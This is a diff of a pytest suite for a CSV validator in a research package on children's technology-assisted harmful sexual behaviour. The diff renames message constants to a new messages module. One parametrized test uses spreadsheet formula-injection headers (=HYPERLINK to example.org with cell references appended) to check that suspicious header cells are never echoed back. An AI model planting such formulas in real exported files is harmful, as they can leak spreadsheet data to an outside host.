@@ -11,6 +11,8 @@ import pandas as pd
 import pytest
 from conftest import problems_in, with_cell, write_csv_tables
 
+from tahsb_analysis.input import checked as c
+from tahsb_analysis.input import messages as m
 from tahsb_analysis.input import problems as v_problems
 from tahsb_analysis.input import validation as v
 from tahsb_analysis.input.cohort import Cohort, missing_column
@@ -56,7 +58,7 @@ def test_problem_table_has_the_agreed_columns_and_dtypes(tmp_path, frames):
 def test_table_without_data_rows_is_reported_once_for_the_file(tmp_path, frames):
     frames["behaviours"] = frames["behaviours"].iloc[:0]
     assert_only_problem(problems_in(tmp_path, frames), "behaviours.csv", None, "",
-                        v.NO_DATA_ROWS)
+                        m.NO_DATA_ROWS)
 
 
 def test_file_with_no_header_row_is_reported_as_empty(tmp_path, frames):
@@ -64,19 +66,19 @@ def test_file_with_no_header_row_is_reported_as_empty(tmp_path, frames):
     paths["case_file"].write_text("", encoding="utf-8")
     raw = {name: read_table_as_text(path) for name, path in paths.items()}
     problems = find_problems(raw)
-    assert_only_problem(problems, "case_file.csv", None, "", v.EMPTY_FILE)
+    assert_only_problem(problems, "case_file.csv", None, "", m.EMPTY_FILE)
 
 
 def test_missing_required_column_is_named(tmp_path, frames):
     frames["cases"] = frames["cases"].drop(columns=["learning_disability"])
     assert_only_problem(problems_in(tmp_path, frames), "cases.csv", None,
-                        "learning_disability", v.MISSING_COLUMN)
+                        "learning_disability", m.MISSING_COLUMN)
 
 
 def test_unknown_column_is_named_by_position_with_the_closest_codebook_name(tmp_path, frames):
     frames["case_file"]["Looked_After"] = "no"  # the 19th column of the file
     found = assert_only_problem(problems_in(tmp_path, frames), "case_file.csv", None,
-                                "column 19", v.UNKNOWN_COLUMN)
+                                "column 19", m.UNKNOWN_COLUMN)
     assert "did you mean looked_after?" in found["expected"]  # the codebook's word, not the file's
     assert "Looked_After" not in found["expected"] + found["problem"]
 
@@ -88,7 +90,7 @@ def test_column_name_given_twice_is_reported(tmp_path, frames):
         "\n".join([text[0] + ",setting"] + [line + ",online" for line in text[1:]]) + "\n",
         encoding="utf-8")
     problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
-    assert_only_problem(problems, "behaviours.csv", None, "setting", v.REPEATED_COLUMN)
+    assert_only_problem(problems, "behaviours.csv", None, "setting", m.REPEATED_COLUMN)
 
 
 # --- single cells ---------------------------------------------------------------------------
@@ -96,13 +98,13 @@ def test_column_name_given_twice_is_reported(tmp_path, frames):
 
 def test_blank_cell_is_reported_at_the_row_the_user_sees(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 4, "sex", ""))
-    found = assert_only_problem(problems, "cases.csv", 4, "sex", v.BLANK_CELL)
+    found = assert_only_problem(problems, "cases.csv", 4, "sex", m.BLANK_CELL)
     assert found["expected"].startswith("one of male, female, other")
 
 
 def test_cell_holding_only_spaces_is_blank(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "case_file", 3, "looked_after", "   "))
-    assert_only_problem(problems, "case_file.csv", 3, "looked_after", v.BLANK_CELL)
+    assert_only_problem(problems, "case_file.csv", 3, "looked_after", m.BLANK_CELL)
 
 
 def test_surrounding_spaces_around_a_valid_code_are_accepted(tmp_path, frames):
@@ -112,18 +114,18 @@ def test_surrounding_spaces_around_a_valid_code_are_accepted(tmp_path, frames):
 def test_code_outside_the_allowed_set_is_reported_with_the_allowed_codes(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "case_file", 4, "family_stability",
                                                "chaotic"))
-    found = assert_only_problem(problems, "case_file.csv", 4, "family_stability", v.NOT_A_CODE)
+    found = assert_only_problem(problems, "case_file.csv", 4, "family_stability", m.NOT_A_CODE)
     assert "stable, some_instability, unstable" in found["expected"]
 
 
 def test_na_in_a_csv_cell_is_an_invalid_code_not_a_missing_value(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "behaviours", 6, "aimed_at_other", "NA"))
-    assert_only_problem(problems, "behaviours.csv", 6, "aimed_at_other", v.NOT_A_CODE)
+    assert_only_problem(problems, "behaviours.csv", 6, "aimed_at_other", m.NOT_A_CODE)
 
 
 def test_code_in_the_wrong_case_gets_its_own_message(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 2, "learning_disability", "No"))
-    assert_only_problem(problems, "cases.csv", 2, "learning_disability", v.CODE_CASE)
+    assert_only_problem(problems, "cases.csv", 2, "learning_disability", m.CODE_CASE)
 
 
 def test_not_recorded_code_is_accepted_where_the_codebook_allows_it(tmp_path, frames):
@@ -132,20 +134,20 @@ def test_not_recorded_code_is_accepted_where_the_codebook_allows_it(tmp_path, fr
 
 def test_not_applicable_code_is_refused_where_the_codebook_does_not_allow_it(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 3, "sex", "-8"))
-    assert_only_problem(problems, "cases.csv", 3, "sex", v.MISSING_CODE_NOT_ALLOWED)
+    assert_only_problem(problems, "cases.csv", 3, "sex", m.MISSING_CODE_NOT_ALLOWED)
 
 
 def test_missing_code_is_refused_in_a_field_without_missing_codes(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "behaviours", 2, "behaviour_seq", "-9"))
     assert_only_problem(problems, "behaviours.csv", 2, "behaviour_seq",
-                        v.MISSING_CODE_NOT_ALLOWED)
+                        m.MISSING_CODE_NOT_ALLOWED)
 
 
 @pytest.mark.parametrize(("value", "problem"), [
-    ("fourteen", v.NOT_AN_INTEGER),
-    ("14.0", v.NOT_AN_INTEGER),
-    ("4", v.BELOW_MINIMUM),
-    ("19", v.ABOVE_MAXIMUM),
+    ("fourteen", m.NOT_AN_INTEGER),
+    ("14.0", m.NOT_AN_INTEGER),
+    ("4", m.BELOW_MINIMUM),
+    ("19", m.ABOVE_MAXIMUM),
 ])
 def test_integer_problems(tmp_path, frames, value, problem):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 6, "age_at_referral", value))
@@ -158,10 +160,10 @@ def test_integer_bounds_are_inclusive(tmp_path, frames, value):
 
 
 @pytest.mark.parametrize(("value", "problem"), [
-    ("ten", v.NOT_A_NUMBER),
-    ("2.5", v.BELOW_MINIMUM),
-    ("18.5", v.ABOVE_MAXIMUM),
-    ("8.25", v.TOO_MANY_DECIMALS),
+    ("ten", m.NOT_A_NUMBER),
+    ("2.5", m.BELOW_MINIMUM),
+    ("18.5", m.ABOVE_MAXIMUM),
+    ("8.25", m.TOO_MANY_DECIMALS),
 ])
 def test_number_problems(tmp_path, frames, value, problem):
     problems = problems_in(tmp_path, with_cell(frames, "case_file", 4, "age_first_hsb", value))
@@ -176,12 +178,12 @@ def test_trailing_zero_does_not_count_as_a_decimal_place(tmp_path, frames):
 @pytest.mark.parametrize("value", ["2015-13", "2015-00", "2015-3", "03/2015", "2015"])
 def test_yearmonth_must_be_yyyy_mm_with_a_real_month(tmp_path, frames, value):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 7, "assessment_month", value))
-    assert_only_problem(problems, "cases.csv", 7, "assessment_month", v.NOT_A_YEARMONTH)
+    assert_only_problem(problems, "cases.csv", 7, "assessment_month", m.NOT_A_YEARMONTH)
 
 
 def test_case_id_must_match_the_pattern(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 7, "case_id", "C 006"))
-    assert_only_problem(problems, "cases.csv", 7, "case_id", v.PATTERN_MISMATCH)
+    assert_only_problem(problems, "cases.csv", 7, "case_id", m.PATTERN_MISMATCH)
 
 
 def test_duplicate_case_id_names_the_row_it_duplicates(tmp_path, frames):
@@ -208,7 +210,7 @@ def test_duplicate_behaviour_number_is_compared_by_value(tmp_path, frames):
 def test_column_that_must_be_constant_reports_the_rows_that_differ(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 5, "data_origin", "real"))
     found = assert_only_problem(problems, "cases.csv", 5, "data_origin",
-                                v.NOT_CONSTANT.format(rows="row 5"))
+                                m.NOT_CONSTANT.format(rows="row 5"))
     assert "real" not in found["problem"]
 
 
@@ -219,32 +221,32 @@ def test_case_file_row_for_a_child_not_in_cases(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "case_file", 4, "case_id", "C099"))
     # C003 now has no case_file row, which is reported on its cases row too.
     assert set(located(problems)) == {
-        ("case_file.csv", 4, "case_id", v.UNKNOWN_CHILD),
-        ("cases.csv", 4, "in_depth_sample", v.NO_CASE_FILE_ROW),
+        ("case_file.csv", 4, "case_id", m.UNKNOWN_CHILD),
+        ("cases.csv", 4, "in_depth_sample", m.NO_CASE_FILE_ROW),
     }
 
 
 def test_behaviours_row_for_a_child_not_in_cases(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "behaviours", 8, "case_id", "C099"))
-    assert_only_problem(problems, "behaviours.csv", 8, "case_id", v.UNKNOWN_CHILD)
+    assert_only_problem(problems, "behaviours.csv", 8, "case_id", m.UNKNOWN_CHILD)
 
 
 def test_rows_for_a_child_outside_the_in_depth_sample(tmp_path, frames):
     changed = with_cell(frames, "behaviours", 8, "case_id", "C004")
     changed = with_cell(changed, "behaviours", 8, "behaviour_seq", "1")
     problems = problems_in(tmp_path, changed)
-    assert_only_problem(problems, "behaviours.csv", 8, "case_id", v.NOT_IN_DEPTH)
+    assert_only_problem(problems, "behaviours.csv", 8, "case_id", m.NOT_IN_DEPTH)
 
 
 def test_in_depth_child_without_a_case_file_row_is_reported_on_its_cases_row(tmp_path, frames):
     frames["case_file"] = frames["case_file"].iloc[:2]
     assert_only_problem(problems_in(tmp_path, frames), "cases.csv", 4, "in_depth_sample",
-                        v.NO_CASE_FILE_ROW)
+                        m.NO_CASE_FILE_ROW)
 
 
 def test_setting_that_disagrees_with_the_behaviour_type(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "behaviours", 3, "setting", "offline"))
-    assert_only_problem(problems, "behaviours.csv", 3, "setting", v.SETTING_MISMATCH)
+    assert_only_problem(problems, "behaviours.csv", 3, "setting", m.SETTING_MISMATCH)
 
 
 def test_online_behaviour_for_a_child_whose_ta_hsb_is_no(tmp_path, frames):
@@ -252,27 +254,27 @@ def test_online_behaviour_for_a_child_whose_ta_hsb_is_no(tmp_path, frames):
     assert problems["file"].unique().tolist() == ["behaviours.csv"]
     assert problems["row"].tolist() == [3, 4]  # C001's two online behaviours
     assert set(problems["column"]) == {"behaviour_type"}
-    assert set(problems["problem"]) == {v.ONLINE_BUT_NO_TA_HSB}
+    assert set(problems["problem"]) == {m.ONLINE_BUT_NO_TA_HSB}
 
 
 def test_offline_behaviour_for_a_child_whose_offline_hsb_is_no(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 4, "offline_hsb", "no"))
     assert set(located(problems)) == {
-        ("behaviours.csv", 7, "behaviour_type", v.OFFLINE_BUT_NO_OFFLINE_HSB),
-        ("behaviours.csv", 8, "behaviour_type", v.OFFLINE_BUT_NO_OFFLINE_HSB),
+        ("behaviours.csv", 7, "behaviour_type", m.OFFLINE_BUT_NO_OFFLINE_HSB),
+        ("behaviours.csv", 8, "behaviour_type", m.OFFLINE_BUT_NO_OFFLINE_HSB),
         # C003's porn_trigger_offline is "no", which now should be -8
-        ("case_file.csv", 4, "porn_trigger_offline", v.PORN_TRIGGER_WITHOUT_OFFLINE),
+        ("case_file.csv", 4, "porn_trigger_offline", m.PORN_TRIGGER_WITHOUT_OFFLINE),
     }
 
 
 def test_ta_hsb_yes_without_any_online_behaviour(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 4, "ta_hsb", "yes"))
-    assert_only_problem(problems, "cases.csv", 4, "ta_hsb", v.TA_HSB_WITHOUT_ONLINE)
+    assert_only_problem(problems, "cases.csv", 4, "ta_hsb", m.TA_HSB_WITHOUT_ONLINE)
 
 
 def test_offline_hsb_yes_without_any_offline_behaviour(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 3, "offline_hsb", "yes"))
-    assert_only_problem(problems, "cases.csv", 3, "offline_hsb", v.OFFLINE_HSB_WITHOUT_OFFLINE)
+    assert_only_problem(problems, "cases.csv", 3, "offline_hsb", m.OFFLINE_HSB_WITHOUT_OFFLINE)
 
 
 def test_children_outside_the_in_depth_sample_need_no_behaviours(tmp_path, frames):
@@ -288,7 +290,7 @@ def test_onset_must_be_below_age_at_referral_plus_one(tmp_path, frames, onset, i
     # C001 was referred at 14 (whole years): onset at 14.9 is possible, at 15.0 it is not.
     problems = problems_in(tmp_path, with_cell(frames, "behaviours", 3, "age_at_onset", onset))
     if is_problem:
-        assert_only_problem(problems, "behaviours.csv", 3, "age_at_onset", v.ONSET_AFTER_REFERRAL)
+        assert_only_problem(problems, "behaviours.csv", 3, "age_at_onset", m.ONSET_AFTER_REFERRAL)
     else:
         assert problems.empty
 
@@ -298,20 +300,20 @@ def test_age_first_hsb_must_be_below_age_at_referral_plus_one(tmp_path, frames):
     changed = with_cell(frames, "behaviours", 7, "age_at_onset", "-9")
     changed = with_cell(changed, "case_file", 4, "age_first_hsb", "13")
     assert_only_problem(problems_in(tmp_path, changed), "case_file.csv", 4, "age_first_hsb",
-                        v.FIRST_HSB_AFTER_REFERRAL)
+                        m.FIRST_HSB_AFTER_REFERRAL)
 
 
 def test_age_first_hsb_later_than_the_earliest_behaviour_onset(tmp_path, frames):
     # C001's earliest behaviour began at 10.5.
     problems = problems_in(tmp_path, with_cell(frames, "case_file", 2, "age_first_hsb", "10.6"))
-    assert_only_problem(problems, "case_file.csv", 2, "age_first_hsb", v.FIRST_HSB_AFTER_ONSET)
+    assert_only_problem(problems, "case_file.csv", 2, "age_first_hsb", m.FIRST_HSB_AFTER_ONSET)
 
 
 def test_porn_trigger_recorded_for_a_child_without_offline_hsb(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "case_file", 3, "porn_trigger_offline",
                                                "no"))
     found = assert_only_problem(problems, "case_file.csv", 3, "porn_trigger_offline",
-                                v.PORN_TRIGGER_WITHOUT_OFFLINE)
+                                m.PORN_TRIGGER_WITHOUT_OFFLINE)
     assert found["expected"].startswith("-8")
 
 
@@ -322,18 +324,18 @@ def test_invalid_age_at_referral_is_reported_once_not_again_by_the_onset_check(t
     changed = with_cell(frames, "cases", 2, "age_at_referral", "4")
     changed = with_cell(changed, "behaviours", 3, "age_at_onset", "13.5")
     assert_only_problem(problems_in(tmp_path, changed), "cases.csv", 2, "age_at_referral",
-                        v.BELOW_MINIMUM)
+                        m.BELOW_MINIMUM)
 
 
 def test_broken_case_id_in_cases_is_not_reported_again_in_the_other_files(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 3, "case_id", "C002!"))
-    assert_only_problem(problems, "cases.csv", 3, "case_id", v.PATTERN_MISMATCH)
+    assert_only_problem(problems, "cases.csv", 3, "case_id", m.PATTERN_MISMATCH)
 
 
 def test_invalid_behaviour_type_is_not_reported_again_by_the_setting_checks(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "behaviours", 5, "behaviour_type",
                                                "texting"))
-    assert_only_problem(problems, "behaviours.csv", 5, "behaviour_type", v.NOT_A_CODE)
+    assert_only_problem(problems, "behaviours.csv", 5, "behaviour_type", m.NOT_A_CODE)
 
 
 def test_child_whose_behaviour_types_are_unreadable_is_not_judged_for_online_behaviour(
@@ -343,20 +345,20 @@ def test_child_whose_behaviour_types_are_unreadable_is_not_judged_for_online_beh
     changed = with_cell(changed, "behaviours", 6, "behaviour_type", "pictures")
     problems = problems_in(tmp_path, changed)
     assert located(problems) == [
-        ("behaviours.csv", 5, "behaviour_type", v.NOT_A_CODE),
-        ("behaviours.csv", 6, "behaviour_type", v.NOT_A_CODE),
+        ("behaviours.csv", 5, "behaviour_type", m.NOT_A_CODE),
+        ("behaviours.csv", 6, "behaviour_type", m.NOT_A_CODE),
     ]
 
 
 def test_cell_breaking_several_rules_is_reported_once_for_the_first(tmp_path, frames):
     # 2.25 is both below the minimum of 3 and has two decimal places.
     problems = problems_in(tmp_path, with_cell(frames, "case_file", 4, "age_first_hsb", "2.25"))
-    assert_only_problem(problems, "case_file.csv", 4, "age_first_hsb", v.BELOW_MINIMUM)
+    assert_only_problem(problems, "case_file.csv", 4, "age_first_hsb", m.BELOW_MINIMUM)
 
 
 def test_invalid_in_depth_flag_is_not_reported_again_by_the_in_depth_checks(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 3, "in_depth_sample", "maybe"))
-    assert_only_problem(problems, "cases.csv", 3, "in_depth_sample", v.NOT_A_CODE)
+    assert_only_problem(problems, "cases.csv", 3, "in_depth_sample", m.NOT_A_CODE)
 
 
 def test_unreadable_onset_keeps_the_child_out_of_the_earliest_onset_check(tmp_path, frames):
@@ -364,7 +366,7 @@ def test_unreadable_onset_keeps_the_child_out_of_the_earliest_onset_check(tmp_pa
     changed = with_cell(frames, "behaviours", 2, "age_at_onset", "ten")
     changed = with_cell(changed, "case_file", 2, "age_first_hsb", "12.6")
     assert_only_problem(problems_in(tmp_path, changed), "behaviours.csv", 2, "age_at_onset",
-                        v.NOT_A_NUMBER)
+                        m.NOT_A_NUMBER)
 
 
 # --- one pass, ordering, wording ------------------------------------------------------------
@@ -521,11 +523,11 @@ def map_and_factorize_distinct_text(column: pd.Series):
 ], ids=["whitespace-and-missing", "stripped", "none-and-blank", "empty"])
 def test_distinct_text_equals_the_map_and_factorize_formulation(cells):
     column = pd.Series(cells, dtype=object)
-    codes, text = v._distinct_text(column)
+    codes, text = c._distinct_text(column)
     expected_codes, expected_text = map_and_factorize_distinct_text(column)
     np.testing.assert_array_equal(codes, expected_codes)
     pd.testing.assert_series_equal(text, expected_text)
-    shared = v._distinct_text(column, v._raw_distinct(column))
+    shared = c._distinct_text(column, c._raw_distinct(column))
     np.testing.assert_array_equal(shared[0], expected_codes)
     pd.testing.assert_series_equal(shared[1], expected_text)
 
@@ -614,19 +616,19 @@ def test_input_validation_error_survives_pickling(tmp_path, frames):
 
 def test_digits_of_other_scripts_are_not_numbers(tmp_path, frames):
     problems = problems_in(tmp_path, with_cell(frames, "cases", 2, "age_at_referral", "١٤"))
-    assert_only_problem(problems, "cases.csv", 2, "age_at_referral", v.NOT_AN_INTEGER)
+    assert_only_problem(problems, "cases.csv", 2, "age_at_referral", m.NOT_AN_INTEGER)
 
 
 def test_semicolon_separated_file_gets_a_hint_about_commas(tmp_path, frames):
     paths = write_csv_tables(tmp_path, frames)
     paths["cases"].write_text(paths["cases"].read_text().replace(",", ";"), encoding="utf-8")
     problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
-    unknown = problems[problems["problem"] == v.UNKNOWN_COLUMN]
+    unknown = problems[problems["problem"] == m.UNKNOWN_COLUMN]
     assert unknown["file"].tolist() == ["cases.csv"]
     assert unknown["column"].tolist() == ["column 1"]
     assert "commas" in unknown["expected"].iloc[0]
     # The codebook's names are all there, run together: none is reported missing as well.
-    assert v.MISSING_COLUMN not in problems["problem"].tolist()
+    assert m.MISSING_COLUMN not in problems["problem"].tolist()
 
 
 # --- a header cell is a value too -----------------------------------------------------------
@@ -648,7 +650,7 @@ def test_missing_header_is_reported_once_and_no_cell_of_the_first_row_is_shown(t
     paths = write_csv_tables(tmp_path, frames)
     first_row = without_header(paths["cases"])
     problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
-    found = assert_only_problem(problems, "cases.csv", 1, "", v.HEADER_LOOKS_LIKE_DATA)
+    found = assert_only_problem(problems, "cases.csv", 1, "", m.HEADER_LOOKS_LIKE_DATA)
     assert "case_id, cohort, data_origin" in found["expected"]
     text = all_text(problems)
     for cell in first_row:
@@ -663,7 +665,7 @@ def test_missing_header_below_blank_lines_is_reported_at_the_first_row_of_data(t
     paths["behaviours"].write_text("\n\n" + paths["behaviours"].read_text(encoding="utf-8"),
                                    encoding="utf-8")
     problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
-    assert_only_problem(problems, "behaviours.csv", 3, "", v.HEADER_LOOKS_LIKE_DATA)
+    assert_only_problem(problems, "behaviours.csv", 3, "", m.HEADER_LOOKS_LIKE_DATA)
 
 
 def test_blank_lines_before_the_header_do_not_hide_the_file(tmp_path, frames):
@@ -673,7 +675,7 @@ def test_blank_lines_before_the_header_do_not_hide_the_file(tmp_path, frames):
     with pytest.raises(InputValidationError) as caught:
         validate_cohort(paths)
     # Row 4 of the table is line 6 of the file: two blank lines came first.
-    assert_only_problem(caught.value.problems, "cases.csv", 6, "sex", v.NOT_A_CODE)
+    assert_only_problem(caught.value.problems, "cases.csv", 6, "sex", m.NOT_A_CODE)
     paths = write_csv_tables(tmp_path / "valid", frames)
     for path in paths.values():
         path.write_text("\n\n" + path.read_text(encoding="utf-8"), encoding="utf-8")
@@ -681,12 +683,12 @@ def test_blank_lines_before_the_header_do_not_hide_the_file(tmp_path, frames):
 
 
 @pytest.mark.parametrize(("header", "problem"), [
-    ("=HYPERLINK(\"http://example.org/?\"&A,\"x\")", v.UNKNOWN_COLUMN),
-    ("=HYPERLINK(\"http://example.org/?\"&A2,\"x\")", v.DATA_LIKE_COLUMN),  # a digit
-    ("Notes about Jayden", v.UNKNOWN_COLUMN),
-    ("14", v.DATA_LIKE_COLUMN),
-    ("C099", v.DATA_LIKE_COLUMN),
-    ("female", v.DATA_LIKE_COLUMN),
+    ("=HYPERLINK(\"http://example.org/?\"&A,\"x\")", m.UNKNOWN_COLUMN),
+    ("=HYPERLINK(\"http://example.org/?\"&A2,\"x\")", m.DATA_LIKE_COLUMN),  # a digit
+    ("Notes about Jayden", m.UNKNOWN_COLUMN),
+    ("14", m.DATA_LIKE_COLUMN),
+    ("C099", m.DATA_LIKE_COLUMN),
+    ("female", m.DATA_LIKE_COLUMN),
 ])
 def test_unexpected_header_cell_is_named_by_position_never_shown(tmp_path, frames, header,
                                                                  problem):
@@ -702,7 +704,7 @@ def test_column_without_a_name_is_named_by_position(tmp_path, frames):
     paths["behaviours"].write_text("\n".join([lines[0] + ","] + [line + ",x" for line in lines[1:]])
                                    + "\n", encoding="utf-8")
     problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
-    assert_only_problem(problems, "behaviours.csv", None, "column 7", v.UNNAMED_COLUMN)
+    assert_only_problem(problems, "behaviours.csv", None, "column 7", m.UNNAMED_COLUMN)
 
 
 def test_repeated_unknown_header_cell_is_named_by_position(tmp_path, frames):
@@ -712,9 +714,9 @@ def test_repeated_unknown_header_cell_is_named_by_position(tmp_path, frames):
         "\n".join([lines[0] + ",Kayden,Kayden"] + [line + ",-,-" for line in lines[1:]]) + "\n",
         encoding="utf-8")
     problems = find_problems({name: read_table_as_text(p) for name, p in paths.items()})
-    assert set(located(problems)) == {("cases.csv", None, "column 11", v.UNKNOWN_COLUMN),
-                                      ("cases.csv", None, "column 12", v.REPEATED_COLUMN),
-                                      ("cases.csv", None, "column 12", v.UNKNOWN_COLUMN)}
+    assert set(located(problems)) == {("cases.csv", None, "column 11", m.UNKNOWN_COLUMN),
+                                      ("cases.csv", None, "column 12", m.REPEATED_COLUMN),
+                                      ("cases.csv", None, "column 12", m.UNKNOWN_COLUMN)}
     assert "Kayden" not in all_text(problems)
 
 
@@ -750,9 +752,9 @@ def test_a_problem_on_many_rows_lists_the_first_rows_and_counts_the_rest(tmp_pat
     problems = problems_in(tmp_path, frames)
     assert problems["row"].tolist() == [8, 9, 10, 11]
     assert set(problems["column"]) == {"sex"}
-    assert problems["problem"].tolist()[:3] == [v.NOT_A_CODE] * 3
+    assert problems["problem"].tolist()[:3] == [m.NOT_A_CODE] * 3
     assert problems["problem"].iloc[3] == (
-        f"{v.NOT_A_CODE}: and 497 more rows with this problem (rows 11, 12, 13 and 494 more)")
+        f"{m.NOT_A_CODE}: and 497 more rows with this problem (rows 11, 12, 13 and 494 more)")
 
 
 def test_many_duplicate_ids_are_bounded_too(tmp_path, frames):
@@ -775,7 +777,7 @@ def test_problems_of_a_file_are_capped(tmp_path, frames):
     cases = problems[problems["file"] == "cases.csv"]
     assert len(cases) == v_problems.MAX_PROBLEMS_PER_FILE + 1
     assert cases["problem"].iloc[-1].startswith("... and 90 more problems in this file")
-    assert cases["problem"].iloc[0] == v.MISSING_COLUMN
+    assert cases["problem"].iloc[0] == m.MISSING_COLUMN
 
 
 # --- a large file that is clearly not the table ---------------------------------------------
@@ -790,8 +792,8 @@ def test_large_file_that_is_clearly_not_the_table_is_read_only_at_its_start(tmp_
         validate_cohort(paths)
     problems = caught.value.problems
     assert located(problems)[:2] == [
-        ("cases.csv", None, "", v.NOT_THE_TABLE_HEADER.format(row=v.PROBE_LINES, table="cases")),
-        ("cases.csv", 1, "", v.HEADER_LOOKS_LIKE_DATA)]
+        ("cases.csv", None, "", m.NOT_THE_TABLE_HEADER.format(row=v.PROBE_LINES, table="cases")),
+        ("cases.csv", 1, "", m.HEADER_LOOKS_LIKE_DATA)]
     assert int(problems["row"].max()) <= v.PROBE_LINES
     # The other tables are not judged against a table that was not read whole.
     assert set(problems["file"]) == {"cases.csv"}
@@ -810,7 +812,7 @@ def test_large_file_whose_rows_break_most_cells_is_read_only_at_its_start(tmp_pa
     problems = caught.value.problems
     stopped = problems[problems["problem"].str.startswith("file was read only to row")]
     assert stopped["problem"].tolist() == [
-        v.NOT_THE_TABLE_ROWS.format(row=v.PROBE_LINES, first=2)]
+        m.NOT_THE_TABLE_ROWS.format(row=v.PROBE_LINES, first=2)]
     assert int(problems["row"].max()) <= v.PROBE_LINES
 
 
@@ -821,7 +823,7 @@ def test_large_valid_file_is_read_whole(tmp_path, frames):
     frames["cases"].loc[2400, "sex"] = "boy"  # beyond the first look: still found
     with pytest.raises(InputValidationError) as caught:
         validate_cohort(write_csv_tables(tmp_path / "bad", frames))
-    assert_only_problem(caught.value.problems, "cases.csv", 2402, "sex", v.NOT_A_CODE)
+    assert_only_problem(caught.value.problems, "cases.csv", 2402, "sex", m.NOT_A_CODE)
 
 
 def test_garbage_after_a_good_start_stops_reading_at_the_first_garbage_piece(tmp_path, frames,
@@ -836,7 +838,7 @@ def test_garbage_after_a_good_start_stops_reading_at_the_first_garbage_piece(tmp
         validate_cohort(write_csv_tables(tmp_path, frames))
     problems = caught.value.problems
     cases = problems[problems["file"] == "cases.csv"]
-    assert cases["problem"].iloc[0] == v.NOT_THE_TABLE_ROWS.format(row=4000, first=2501)
+    assert cases["problem"].iloc[0] == m.NOT_THE_TABLE_ROWS.format(row=4000, first=2501)
     assert int(cases["row"].max()) <= 4000  # nothing beyond the piece that was garbage
     summary = cases[cases["column"].eq("sex")]["problem"].iloc[-1]
     assert "and 2796 more rows" in summary  # rows 1202-4000: 2799 rows, three listed
@@ -850,7 +852,7 @@ def test_coded_column_with_many_different_texts_stops_reading(tmp_path, frames):
     with pytest.raises(InputValidationError) as caught:
         validate_cohort(write_csv_tables(tmp_path, frames))
     problems = caught.value.problems
-    assert v.NOT_THE_TABLE_VALUES.format(row=v.PROBE_LINES, first=2, column="sex",
+    assert m.NOT_THE_TABLE_VALUES.format(row=v.PROBE_LINES, first=2, column="sex",
                                          count=100) in problems["problem"].tolist()
     assert int(problems["row"].max()) <= v.PROBE_LINES
     assert "Jayden" not in str(caught.value)
